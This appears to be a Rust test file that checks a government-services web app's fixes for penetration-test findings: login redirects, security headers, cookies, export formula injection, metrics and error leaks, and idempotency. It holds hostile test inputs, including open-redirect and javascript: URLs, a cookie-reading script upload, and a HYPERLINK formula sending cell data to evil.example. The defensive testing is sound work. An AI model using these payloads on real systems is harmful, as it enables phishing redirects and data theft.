//! The penetration test's findings on the web surface, each with the test that failed before
//! its fix: the open redirect after login (6), the security headers, file types and cookies
//! (7), formula injection in exports (8), what `/metrics` and error bodies leak (14), and a
//! reused idempotency key and a back-dated publication (17).

mod common;

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{header, Method, Request, StatusCode};
use common::{District, Resp};
use serde_json::{json, Value};
use std::net::SocketAddr;
use tower::ServiceExt;

/// A matter of the keeper's department (区市场监管局): 企业设立登记.
const OWN: &str = "XK-D04-0001-01";

fn code(r: &Resp) -> String {
    r.json()["error"]["code"].as_str().unwrap_or("").to_owned()
}

fn header_of<'a>(r: &'a Resp, name: &str) -> &'a str {
    r.headers
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
}

// ---- finding 6: open redirect after login ----

/// Targets that leave the site in some browser, or could after one more decoding.
const OFFSITE: &[&str] = &[
    "/%09/evil.example",
    "/\t/evil.example",
    "/\r\n/evil.example",
    "\t//evil.example",
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\\/evil.example",
    "/%5C%5Cevil.example",
    "https://evil.example",
    "http:evil.example",
    "https:/evil.example",
    "/%2F%2Fevil.example",
    "/%2f/evil.example",
    "/.//evil.example",
    "/%2e//evil.example",
    " /x",
    "/x ",
    "\u{0}/x",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "evil.example",
    "",
];

/// Local targets, kept as they are.
const LOCAL: &[&str] = &[
    "/tasks?box=done",
    "/workbench",
    "/catalog/XK-D04-0001-01/edit",
];

#[tokio::test]
async fn finding_6_login_redirects_only_to_paths_on_this_site() {
    let d = District::new().await;
    let login = |next: &str| {
        let d = &d;
        let next = next.to_owned();
        async move {
            d.form(
                Method::POST,
                "/login",
                None,
                "fgf_pre=pre",
                &[
                    ("_csrf", "pre".to_owned()),
                    ("username", "clerk".to_owned()),
                    ("password", fgf_app::base::seed::DEMO_PASSWORD.to_owned()),
                    ("next", next),
                ],
            )
            .await
        }
    };
    for bad in OFFSITE {
        // The login page does not carry the target into its form …
        let q = serde_urlencoded::to_string([("next", bad)]).unwrap();
        let page = d.api(Method::GET, &format!("/login?{q}"), None, None).await;
        // A target with control characters is refused whole by the text rules (finding 13).
        let refused = bad
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r'));
        if refused {
            assert_eq!(
                (page.status, page.text().contains("text_invalid_chars")),
                (StatusCode::UNPROCESSABLE_ENTITY, true),
                "{bad:?}"
            );
        } else {
            assert_eq!(page.status, StatusCode::OK, "{bad:?}");
        }
        assert!(
            !page.text().contains("name=\"next\""),
            "GET keeps {bad:?}: {}",
            page.text()
        );
        // … and signing in with it lands on the default page (or is refused whole).
        let r = login(bad).await;
        if refused {
            assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}");
            assert!(r.location().is_empty());
        } else {
            assert_eq!(r.status, StatusCode::SEE_OTHER, "{bad:?}: {}", r.text());
            assert_eq!(r.location(), "/workbench", "POST follows {bad:?}");
        }
    }
    // The pentest's own request, with the tab percent-encoded in the query string.
    let page = d
        .api(Method::GET, "/login?next=/%09/evil.example", None, None)
        .await;
    assert!(!page.text().contains("evil.example"), "{}", page.text());
    for good in LOCAL {
        let q = serde_urlencoded::to_string([("next", good)]).unwrap();
        let page = d.api(Method::GET, &format!("/login?{q}"), None, None).await;
        let field = format!(
            "name=\"next\" value=\"{}\"",
            good.replace('&', "&amp;").replace('"', "&quot;")
        );
        assert!(page.text().contains(&field), "{good}: {}", page.text());
        let r = login(good).await;
        assert_eq!(r.location(), *good);
    }
    d.cleanup().await;
}

// ---- finding 7: headers, file types, cookies ----

/// Fills a route's path parameters with values that exist in the demo district where that
/// matters; a 404 still has to carry the headers.
fn sample_path(path: &str, file_hash: &str) -> String {
    let code = if path.contains("dictionaries") {
        "matter_kind"
    } else {
        OWN
    };
    path.replace("{id}", "1")
        .replace("{code}", code)
        .replace("{key}", "by_kind")
        .replace("{n}", "1")
        .replace("{which}", "blank")
        .replace("{file}", "app.css")
        .replace("{hash}", file_hash)
        .replace("{seq}", "1")
}

fn check_headers(r: &Resp, what: &str, failures: &mut Vec<String>) {
    let mut fail = |m: String| failures.push(format!("{what}: {m}"));
    if header_of(r, "x-content-type-options") != "nosniff" {
        fail("no X-Content-Type-Options: nosniff".to_owned());
    }
    if !["same-origin", "no-referrer"].contains(&header_of(r, "referrer-policy")) {
        fail("no Referrer-Policy".to_owned());
    }
    let csp = header_of(r, "content-security-policy");
    if header_of(r, "x-frame-options") != "DENY" || !csp.contains("frame-ancestors 'none'") {
        fail(format!("no frame protection (CSP {csp:?})"));
    }
    let html = header_of(r, "content-type").starts_with("text/html");
    if html {
        let script_src = csp
            .split(';')
            .map(str::trim)
            .find(|d| d.starts_with("script-src") || d.starts_with("default-src"))
            .unwrap_or("");
        for d in [
            "default-src 'self'",
            "script-src 'self'",
            "object-src 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        ] {
            if !csp.contains(d) {
                fail(format!("CSP lacks {d}: {csp}"));
            }
        }
        if script_src.contains("unsafe") || csp.contains("script-src 'self' 'unsafe") {
            fail(format!("CSP allows inline script: {csp}"));
        }
        // What the policy forbids must not be on the page, or the page breaks.
        let body = r.text();
        let inline_script = body.match_indices("<script").any(|(i, _)| {
            let tag = &body[i..body[i..].find('>').map_or(body.len(), |e| i + e)];
            !tag.contains(" src=")
        });
        if inline_script
            || body.contains("javascript:")
            || [" onclick=", " onchange=", " onsubmit=", " onload="]
                .iter()
                .any(|a| body.contains(a))
        {
            fail("inline script on the page".to_owned());
        }
    }
    let cache = header_of(r, "cache-control");
    let asset = what.contains(" /assets/") && r.status == StatusCode::OK;
    if asset {
        if !cache.contains("max-age=31536000") {
            fail(format!("asset lost its long cache: {cache:?}"));
        }
    } else if !cache.contains("no-store") {
        fail(format!("no Cache-Control: no-store ({cache:?})"));
    }
}

#[tokio::test]
async fn finding_7_every_get_route_carries_the_security_headers() {
    let d = District::new().await;
    let clerk = d.token("clerk").await;
    let up = d
        .raw(
            Method::POST,
            "/api/v1/files?name=a.txt",
            Some(&clerk),
            "text/plain",
            b"hello".to_vec(),
        )
        .await;
    let hash = up.json()["content_hash"].as_str().unwrap().to_owned();
    let (cookie, _) = d.page_session("keeper").await;
    let mut failures = Vec::new();
    let mut seen = 0;
    for spec in fgf_web::routes::specs()
        .iter()
        .filter(|s| s.method == "GET")
    {
        let path = sample_path(spec.path, &hash);
        let anonymous = d.api(Method::GET, &path, None, None).await;
        check_headers(
            &anonymous,
            &format!("anonymous GET {path} ({})", anonymous.status),
            &mut failures,
        );
        let staff = d.page(Method::GET, &path, &cookie).await;
        check_headers(
            &staff,
            &format!("keeper GET {path} ({})", staff.status),
            &mut failures,
        );
        seen += 1;
    }
    // Answers no handler wrote: an unknown route, a refused body.
    let r = d.api(Method::GET, "/no/such/page", None, None).await;
    check_headers(&r, "GET /no/such/page", &mut failures);
    let r = d
        .raw(
            Method::POST,
            "/api/v1/auth/login",
            None,
            "application/json",
            b"{".to_vec(),
        )
        .await;
    check_headers(&r, "POST /api/v1/auth/login (bad JSON)", &mut failures);
    assert!(seen > 80, "only {seen} GET routes");
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
    // The script the pages use is served from here.
    let page = d.page(Method::GET, "/catalog/import", &cookie).await;
    let src = page
        .text()
        .split("<script src=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .map(str::to_owned)
        .expect("the page loads the script");
    let js = d.api(Method::GET, &src, None, None).await;
    assert_eq!(js.status, StatusCode::OK);
    assert!(header_of(&js, "content-type").starts_with("text/javascript"));
    assert!(js.text().contains("import-form"));
    d.cleanup().await;
}

#[tokio::test]
async fn finding_7_an_uploaded_html_file_is_served_as_an_attachment_of_a_safe_type() {
    let d = District::new().await;
    let keeper = d.token("keeper").await;
    let reviewer = d.token("reviewer").await;
    let evil = b"<html><body><script>alert(document.cookie)</script></body></html>".to_vec();
    let up = d
        .raw(
            Method::POST,
            "/api/v1/files?name=form.html",
            Some(&keeper),
            "text/html",
            evil.clone(),
        )
        .await;
    assert_eq!(up.status, StatusCode::CREATED, "{}", up.text());
    assert_eq!(
        up.json()["mime"],
        "text/plain; charset=utf-8",
        "sniffed at upload"
    );
    let hash = up.json()["content_hash"].as_str().unwrap().to_owned();
    let check = |r: &Resp, what: &str| {
        assert_eq!(r.status, StatusCode::OK, "{what}");
        assert_eq!(r.body, evil, "{what}");
        let ct = header_of(r, "content-type");
        assert!(!ct.contains("html") && !ct.contains("svg"), "{what}: {ct}");
        assert!(
            header_of(r, "content-disposition").starts_with("attachment"),
            "{what}"
        );
        assert_eq!(header_of(r, "x-content-type-options"), "nosniff", "{what}");
    };
    let r = d
        .api(
            Method::GET,
            &format!("/api/v1/files/{hash}"),
            Some(&keeper),
            None,
        )
        .await;
    check(&r, "API download");
    // A PDF keeps its type whatever it was sent as.
    let pdf = d
        .raw(
            Method::POST,
            "/api/v1/files?name=x.pdf",
            Some(&keeper),
            "text/html",
            b"%PDF-1.4 x".to_vec(),
        )
        .await;
    assert_eq!(pdf.json()["mime"], "application/pdf");
    // The same file as a material's blank form on the public guide.
    let r = d
        .api(Method::GET, &format!("/api/v1/matters/{OWN}"), None, None)
        .await;
    let view = r.json();
    let mut draft = json!({
        "code": view["matter"]["code"],
        "parent_code": view["parent_code"],
        "department_code": view["department_code"],
        "doc": view["doc"],
        "note": "",
    });
    draft["doc"]["materials"][0]["blank_form"] = json!(true);
    draft["doc"]["materials"][0]["blank_form_file"] = json!(hash);
    let r = d
        .api(Method::POST, "/api/v1/matters", Some(&keeper), Some(draft))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    d.api(
        Method::POST,
        &format!("/api/v1/matters/{OWN}/versions/2/submit"),
        Some(&keeper),
        None,
    )
    .await;
    let r = d
        .api(
            Method::POST,
            &format!("/api/v1/matters/{OWN}/versions/2/review"),
            Some(&reviewer),
            Some(json!({"approve": true})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    let r = d
        .api(
            Method::GET,
            &format!("/guide/{OWN}/materials/1/blank"),
            None,
            None,
        )
        .await;
    check(&r, "public guide download");
    d.cleanup().await;
}

fn set_cookies(r: &Resp) -> Vec<String> {
    r.headers
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .collect()
}

/// Every cookie the server sets in the sign-in journey: the pre-session, the session, the
/// preferences and the cleared session.
async fn cookies_set(d: &District) -> Vec<String> {
    let mut all = set_cookies(&d.api(Method::GET, "/login", None, None).await);
    all.extend(set_cookies(
        &d.api(Method::GET, "/register", None, None).await,
    ));
    let r = d
        .form(
            Method::POST,
            "/login",
            None,
            "fgf_pre=pre",
            &[
                ("_csrf", "pre".to_owned()),
                ("username", "clerk".to_owned()),
                ("password", fgf_app::base::seed::DEMO_PASSWORD.to_owned()),
            ],
        )
        .await;
    all.extend(set_cookies(&r));
    let session = r.cookie("fgf_session").unwrap();
    all.extend(set_cookies(
        &d.api(Method::GET, "/prefs?lang=en&large=1", None, None)
            .await,
    ));
    let me = d.page(Method::GET, "/api/v1/auth/me", &session).await;
    let csrf = me.json()["csrf_token"].as_str().unwrap().to_owned();
    let out = d
        .form(
            Method::POST,
            "/logout",
            None,
            &format!("fgf_session={session}"),
            &[("_csrf", csrf)],
        )
        .await;
    assert_eq!(out.status, StatusCode::SEE_OTHER, "{}", out.text());
    all.extend(set_cookies(&out));
    all
}

#[tokio::test]
async fn finding_7_cookies_carry_secure_when_the_district_is_served_over_https() {
    let secure = |c: &str| {
        c.split(';')
            .any(|a| a.trim().eq_ignore_ascii_case("secure"))
    };
    let names = |all: &[String]| {
        let mut n: Vec<String> = all
            .iter()
            .map(|c| c.split('=').next().unwrap().to_owned())
            .collect();
        n.sort();
        n.dedup();
        n
    };
    let d =
        District::with_config(|c| c.public_url = "https://zwfw.example.gov.cn".to_owned()).await;
    let all = cookies_set(&d).await;
    assert_eq!(
        names(&all),
        ["fgf_lang", "fgf_large", "fgf_pre", "fgf_session"],
        "{all:?}"
    );
    for c in &all {
        assert!(secure(c), "{c}");
        assert_eq!(c.matches("Secure").count(), 1, "{c}");
    }
    d.cleanup().await;
    let d = District::new().await;
    for c in cookies_set(&d).await {
        assert!(!secure(&c), "{c}");
    }
    d.cleanup().await;
}

#[tokio::test]
async fn finding_7_cookies_carry_secure_when_a_trusted_proxy_says_the_request_came_over_https() {
    let d = District::with_config(|c| c.trusted_proxies = vec!["10.0.0.5".to_owned()]).await;
    let login_page = |peer: &str| {
        let mut req = Request::builder()
            .method(Method::GET)
            .uri("/login")
            .header("x-forwarded-proto", "https")
            .body(Body::empty())
            .unwrap();
        let sock: SocketAddr = format!("{peer}:443").parse().unwrap();
        req.extensions_mut().insert(ConnectInfo(sock));
        req
    };
    let secure_pre = |r: &Resp| {
        r.headers
            .get_all(header::SET_COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .any(|c| c.starts_with("fgf_pre=") && c.contains("Secure"))
    };
    // From the trusted proxy the header is believed …
    let r = d.send(login_page("10.0.0.5")).await;
    assert!(secure_pre(&r), "{:?}", r.headers);
    // … from anyone else it is not.
    let r = d.send(login_page("10.9.9.9")).await;
    assert!(!secure_pre(&r), "{:?}", r.headers);
    d.cleanup().await;
}

// ---- finding 8: formula injection in exports ----

/// Leading characters a spreadsheet program runs as a formula (tab and CR are trimmed by the
/// catalogue's inputs; the sheet writers' unit test covers them).
const LEADS: [char; 4] = ['=', '+', '-', '@'];

fn payload(lead: char) -> String {
    format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")")
}

fn csv_cells(text: &str) -> Vec<String> {
    let text = text.trim_start_matches('\u{feff}');
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

fn xlsx_cells(bytes: &[u8]) -> Vec<String> {
    use calamine::Reader;
    let mut wb: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut out = Vec::new();
    for name in wb.sheet_names() {
        let range = wb.worksheet_range(&name).unwrap();
        out.extend(range.rows().flatten().map(ToString::to_string));
    }
    out
}

/// Every cell of an export is inert, and the one carrying the payload holds it guarded.
fn assert_guarded(cells: &[String], lead: char, what: &str) {
    for c in cells {
        assert!(
            !fgf_domain::cell::formula_like(c),
            "{what}: live formula {c:?}"
        );
    }
    let want = format!("'{}", payload(lead));
    assert!(
        cells.contains(&want),
        "{what}: no {want:?} among {} cells",
        cells.len()
    );
}

#[tokio::test]
async fn finding_8_every_export_guards_cells_that_start_like_a_formula() {
    let d = District::new().await;
    let keeper = d.token("keeper").await;
    let reviewer = d.token("reviewer").await;
    let admin = d.token("admin").await;
    let leader = d.token("leader").await;
    let (reform_cookie, _) = d.page_session("reform").await;
    let reform = d.token("reform").await;
    let market = d.department_id("D04").await;
    let r = d
        .api(
            Method::POST,
            "/api/v1/plans",
            Some(&reform),
            Some(json!({"title": "导出测试方案", "report_day": 25})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let plan = r.json()["id"].as_i64().unwrap();
    for (i, lead) in LEADS.into_iter().enumerate() {
        let evil = payload(lead);
        // The catalogue export (CSV and xlsx): a published guide's opening hours.
        let view = d
            .api(Method::GET, &format!("/api/v1/matters/{OWN}"), None, None)
            .await
            .json();
        let mut draft = json!({
            "code": view["matter"]["code"],
            "parent_code": view["parent_code"],
            "department_code": view["department_code"],
            "doc": view["doc"],
            "note": "",
        });
        draft["doc"]["hours"] = json!(evil);
        let r = d
            .api(Method::POST, "/api/v1/matters", Some(&keeper), Some(draft))
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
        let n = r.json()["version"].as_i64().unwrap();
        d.api(
            Method::POST,
            &format!("/api/v1/matters/{OWN}/versions/{n}/submit"),
            Some(&keeper),
            None,
        )
        .await;
        let r = d
            .api(
                Method::POST,
                &format!("/api/v1/matters/{OWN}/versions/{n}/review"),
                Some(&reviewer),
                Some(json!({"approve": true})),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let csv_text = d
            .api(
                Method::GET,
                "/api/v1/catalog/export?format=csv&sheet=matters",
                Some(&keeper),
                None,
            )
            .await
            .text();
        assert_guarded(&csv_cells(&csv_text), lead, "catalogue CSV");
        let xlsx = d
            .api(
                Method::GET,
                "/api/v1/catalog/export?format=xlsx",
                Some(&keeper),
                None,
            )
            .await
            .body;
        assert_guarded(&xlsx_cells(&xlsx), lead, "catalogue xlsx");
        // The export imports back unchanged: the guard is undone on the way in.
        let boundary = "fgfboundary7MA4YWxk";
        let mut body = Vec::new();
        body.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"workbook\"; filename=\"catalog.xlsx\"\r\nContent-Type: application/octet-stream\r\n\r\n").as_bytes());
        body.extend_from_slice(&xlsx);
        body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
        let r = d
            .raw(
                Method::POST,
                "/api/v1/catalog/import",
                Some(&keeper),
                &format!("multipart/form-data; boundary={boundary}"),
                body,
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        let s = &r.json()["summary"];
        assert_eq!(s["matters"], s["unchanged"], "{lead}: {s}");

        // The catalogue reports (CSV and xlsx) name departments.
        let r = d
            .api(
                Method::PATCH,
                &format!("/api/v1/departments/{market}"),
                Some(&admin),
                Some(json!({"code": "D04", "name": evil, "kind": "bureau"})),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        for format in ["csv", "xlsx"] {
            let r = d
                .api(
                    Method::GET,
                    &format!("/api/v1/catalog/reports/by_kind?format={format}"),
                    Some(&leader),
                    None,
                )
                .await;
            assert_eq!(r.status, StatusCode::OK, "{}", r.text());
            let cells = if format == "csv" {
                csv_cells(&r.text())
            } else {
                xlsx_cells(&r.body)
            };
            assert_guarded(&cells, lead, &format!("report {format}"));
        }

        // The reform plan's export: a task's title.
        let r = d
            .api(
                Method::POST,
                &format!("/api/v1/plans/{plan}/tasks"),
                Some(&reform),
                Some(json!({"code": (i + 1).to_string(), "title": evil, "category": "放管服", "start": "2026-03-02", "deadline": "2026-12-30", "lead": "D04"})),
            )
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
        let r = d
            .page(
                Method::GET,
                &format!("/reform/export.xlsx?plan={plan}"),
                &reform_cookie,
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text());
        assert_guarded(&xlsx_cells(&r.body), lead, "reform export");
    }
    d.cleanup().await;
}

// ---- finding 14: leaks ----

async fn from_peer(d: &District, peer: [u8; 4], path: &str, headers: &[(&str, &str)]) -> Resp {
    let mut b = Request::builder().method(Method::GET).uri(path);
    for (k, v) in headers {
        b = b.header(*k, *v);
    }
    let mut req = b.body(Body::empty()).unwrap();
    req.extensions_mut()
        .insert(ConnectInfo(SocketAddr::from((peer, 40_000))));
    d.send(req).await
}

#[tokio::test]
async fn finding_14_metrics_answer_only_allowed_peers_or_the_token() {
    let d = District::with_config(|c| c.metrics.token = "scrape-secret-7".to_owned()).await;
    let unknown = from_peer(&d, [10, 1, 2, 3], "/no-such-route", &[]).await;
    let hidden = |r: &Resp, what: &str| {
        assert_eq!(r.status, StatusCode::NOT_FOUND, "{what}");
        assert_eq!(r.body, unknown.body, "{what}: same answer as no route");
        assert!(!r.text().contains("fgf_"), "{what}");
    };
    hidden(
        &from_peer(&d, [10, 1, 2, 3], "/metrics", &[]).await,
        "remote peer",
    );
    hidden(
        &from_peer(
            &d,
            [10, 1, 2, 3],
            "/metrics",
            &[("x-forwarded-for", "127.0.0.1"), ("x-real-ip", "127.0.0.1")],
        )
        .await,
        "a header naming loopback",
    );
    hidden(
        &from_peer(
            &d,
            [10, 1, 2, 3],
            "/metrics",
            &[("authorization", "Bearer scrape-secret-8")],
        )
        .await,
        "wrong token",
    );
    // No connection information at all admits nobody.
    let res = d
        .router
        .clone()
        .oneshot(Request::get("/metrics").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NOT_FOUND, "no peer");
    let ok = |r: &Resp, what: &str| {
        assert_eq!(r.status, StatusCode::OK, "{what}");
        assert!(r.text().contains("fgf_live_sessions"), "{what}");
    };
    ok(
        &from_peer(&d, [127, 0, 0, 1], "/metrics", &[]).await,
        "loopback",
    );
    ok(
        &from_peer(
            &d,
            [10, 1, 2, 3],
            "/metrics",
            &[("authorization", "Bearer scrape-secret-7")],
        )
        .await,
        "token",
    );
    // The health check says ok and nothing else.
    let h = from_peer(&d, [10, 1, 2, 3], "/healthz", &[]).await;
    assert_eq!(h.status, StatusCode::OK);
    assert_eq!(h.json(), json!({"status": "ok"}));
    d.cleanup().await;

    // An allowed range of the monitoring network.
    let d = District::with_config(|c| c.metrics.allow = vec!["10.1.0.0/16".to_owned()]).await;
    ok(
        &from_peer(&d, [10, 1, 2, 3], "/metrics", &[]).await,
        "allowed range",
    );
    assert_eq!(
        from_peer(&d, [127, 0, 0, 1], "/metrics", &[]).await.status,
        StatusCode::NOT_FOUND,
        "loopback no longer listed"
    );
    d.cleanup().await;
}

/// Words of serde, axum, sqlx and the databases that must never reach an error body.
const LIBRARY_WORDS: &[&str] = &[
    "expected",
    "line 1",
    "EOF",
    "invalid type",
    "invalid digit",
    "Failed to",
    "missing field",
    "unknown field",
    "constraint",
    "UNIQUE",
    "_key",
    "duplicate key",
    "Multipart",
    "multipart",
    "stream",
    "Zip",
    "zip",
];

fn assert_no_library_text(r: &Resp, what: &str) {
    let body = r.text();
    for w in LIBRARY_WORDS {
        assert!(!body.contains(w), "{what}: {w:?} in {body}");
    }
}

#[tokio::test]
async fn finding_14_error_bodies_name_no_constraint_and_no_library_text() {
    let d = District::new().await;
    let admin = d.token("admin").await;
    let dept = d.department_id("D04").await;
    // Unique violations: the code says what is taken, nothing names the schema.
    let r = d
        .api(
            Method::POST,
            "/api/v1/users",
            Some(&admin),
            Some(json!({"username": "clerk", "display_name": "重名", "password": "Zz-9xY-long-pass", "department_id": dept})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.text());
    assert_eq!(code(&r), "username_taken");
    assert_eq!(r.json()["error"]["details"], Value::Null);
    assert_no_library_text(&r, "duplicate username");
    let root = d.department_id("D00").await;
    let r = d
        .api(
            Method::POST,
            "/api/v1/departments",
            Some(&admin),
            Some(json!({"parent_id": root, "code": "D01", "name": "重复", "kind": "section"})),
        )
        .await;
    assert_eq!(code(&r), "department_code_taken");
    assert_no_library_text(&r, "duplicate department code");
    // Malformed JSON: where, not serde's words.
    let r = d
        .raw(
            Method::POST,
            "/api/v1/departments",
            Some(&admin),
            "application/json",
            b"{\"parent_id\": ".to_vec(),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(code(&r), "invalid_json");
    assert_eq!(r.json()["error"]["details"]["line"], 1);
    assert_no_library_text(&r, "truncated JSON");
    // A wrong-typed field.
    let r = d
        .api(
            Method::POST,
            "/api/v1/departments",
            Some(&admin),
            Some(json!({"parent_id": "one", "code": "OK1", "name": "x", "kind": "section"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(code(&r), "invalid_json");
    assert_no_library_text(&r, "wrong type");
    // A missing field is named, by itself.
    let r = d
        .api(
            Method::POST,
            "/api/v1/auth/login",
            None,
            Some(json!({"username": "clerk"})),
        )
        .await;
    assert_eq!(code(&r), "invalid_json");
    assert_eq!(r.json()["error"]["details"]["field"], "password");
    assert_no_library_text(&r, "missing field");
    // A body that is not UTF-8 text at all, and one of the wrong content type.
    let r = d
        .raw(
            Method::POST,
            "/api/v1/departments",
            Some(&admin),
            "application/json",
            vec![0xff, 0xfe, 0x00],
        )
        .await;
    assert_eq!(code(&r), "invalid_json");
    assert_no_library_text(&r, "binary body");
    // Bad query strings, on the API and on a page.
    let r = d
        .api(
            Method::GET,
            "/api/v1/departments?page=x",
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(code(&r), "invalid_query");
    assert_no_library_text(&r, "bad API query");
    let (cookie, _) = d.page_session("admin").await;
    let r = d.page(Method::GET, "/admin/users?page=x", &cookie).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.text().contains("invalid_query"));
    assert_no_library_text(&r, "bad page query");
    // Multipart bodies that break off: a page form and the catalogue import.
    let broken = "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nunterminated";
    let req = Request::builder()
        .method(Method::POST)
        .uri("/reform/tasks/1/report")
        .header(header::COOKIE, format!("fgf_session={cookie}"))
        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
        .body(Body::from(broken))
        .unwrap();
    let r = d.send(req).await;
    assert!(r.text().contains("invalid_form"), "{}", r.text());
    assert_no_library_text(&r, "broken page multipart");
    let keeper = d.token("keeper").await;
    let r = d
        .raw(
            Method::POST,
            "/api/v1/catalog/import",
            Some(&keeper),
            "multipart/form-data; boundary=x",
            broken.as_bytes().to_vec(),
        )
        .await;
    assert_eq!(code(&r), "import_file_invalid");
    assert_no_library_text(&r, "broken import");
    // A workbook that is no workbook.
    let r = d
        .raw(
            Method::POST,
            "/api/v1/catalog/import",
            Some(&keeper),
            "multipart/form-data; boundary=x",
            b"--x\r\nContent-Disposition: form-data; name=\"workbook\"; filename=\"a.xlsx\"\r\n\r\nPK\x03\x04garbage\r\n--x--\r\n".to_vec(),
        )
        .await;
    assert_eq!(code(&r), "import_file_invalid");
    assert_no_library_text(&r, "bad workbook");
    d.cleanup().await;
}

// ---- finding 17: idempotency keys and effective dates ----

async fn post_keyed(d: &District, token: &str, key: &str, path: &str, body: &str) -> Resp {
    let req = Request::builder()
        .method(Method::POST)
        .uri(path)
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header("idempotency-key", key)
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(body.to_owned()))
        .unwrap();
    d.send(req).await
}

#[tokio::test]
async fn finding_17_an_idempotency_key_reused_with_another_body_is_refused() {
    let d = District::new().await;
    let admin = d.token("admin").await;
    let root = d.department_id("D00").await;
    let count = || async {
        d.api(
            Method::GET,
            "/api/v1/departments?per_page=200",
            Some(&admin),
            None,
        )
        .await
        .json()["total"]
            .as_i64()
            .unwrap()
    };
    let before = count().await;
    let first =
        format!(r#"{{"parent_id": {root}, "code": "IDEM1", "name": "幂等", "kind": "section"}}"#);
    let a = post_keyed(&d, &admin, "k-1", "/api/v1/departments", &first).await;
    assert_eq!(a.status, StatusCode::CREATED, "{}", a.text());
    // The same request again, even spaced and ordered differently, is a retry.
    let same =
        format!(r#"{{ "kind":"section","name":"幂等","code":"IDEM1",   "parent_id":{root} }}"#);
    let b = post_keyed(&d, &admin, "k-1", "/api/v1/departments", &same).await;
    assert_eq!(b.status, StatusCode::CREATED);
    assert_eq!(a.json()["id"], b.json()["id"]);
    assert!(b.headers.get("idempotent-replay").is_some());
    // Another body under the same key is refused, and nothing is created.
    let other =
        format!(r#"{{"parent_id": {root}, "code": "IDEM2", "name": "另一个", "kind": "section"}}"#);
    let c = post_keyed(&d, &admin, "k-1", "/api/v1/departments", &other).await;
    assert_eq!(c.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", c.text());
    assert_eq!(code(&c), "idempotency_key_reused");
    assert!(c.headers.get("idempotent-replay").is_none());
    assert_eq!(count().await, before + 1);
    // Another path under the same key stays a 409.
    let user = json!({"username": "idem_user", "display_name": "幂等", "password": "Zz-9xY-long-pass", "department_id": root}).to_string();
    let r = post_keyed(&d, &admin, "k-1", "/api/v1/users", &user).await;
    assert_eq!(code(&r), "idempotency_mismatch");
    // Uploads: the same key with other bytes is refused as well.
    let upload = |bytes: &'static [u8]| {
        let req = Request::builder()
            .method(Method::POST)
            .uri("/api/v1/files?name=a.pdf")
            .header(header::AUTHORIZATION, format!("Bearer {admin}"))
            .header("idempotency-key", "f-1")
            .header(header::CONTENT_TYPE, "application/pdf")
            .body(Body::from(bytes))
            .unwrap();
        d.send(req)
    };
    let a = upload(b"%PDF-1.4 one").await;
    assert_eq!(a.status, StatusCode::CREATED, "{}", a.text());
    let b = upload(b"%PDF-1.4 one").await;
    assert_eq!(a.json()["content_hash"], b.json()["content_hash"]);
    assert!(b.headers.get("idempotent-replay").is_some());
    let c = upload(b"%PDF-1.4 two").await;
    assert_eq!(code(&c), "idempotency_key_reused");
    d.cleanup().await;
}

#[tokio::test]
async fn finding_17_a_version_cannot_take_effect_before_today() {
    let d = District::new().await;
    let keeper = d.token("keeper").await;
    let reviewer = d.token("reviewer").await;
    let view = d
        .api(Method::GET, &format!("/api/v1/matters/{OWN}"), None, None)
        .await
        .json();
    let mut draft = json!({
        "code": view["matter"]["code"],
        "parent_code": view["parent_code"],
        "department_code": view["department_code"],
        "doc": view["doc"],
        "note": "",
    });
    draft["doc"]["hours"] = json!("工作日 8:00-18:00");
    let r = d
        .api(Method::POST, "/api/v1/matters", Some(&keeper), Some(draft))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    d.api(
        Method::POST,
        &format!("/api/v1/matters/{OWN}/versions/2/submit"),
        Some(&keeper),
        None,
    )
    .await;
    let review = format!("/api/v1/matters/{OWN}/versions/2/review");
    let audit_before = d.app.store().count_audit().await.unwrap();
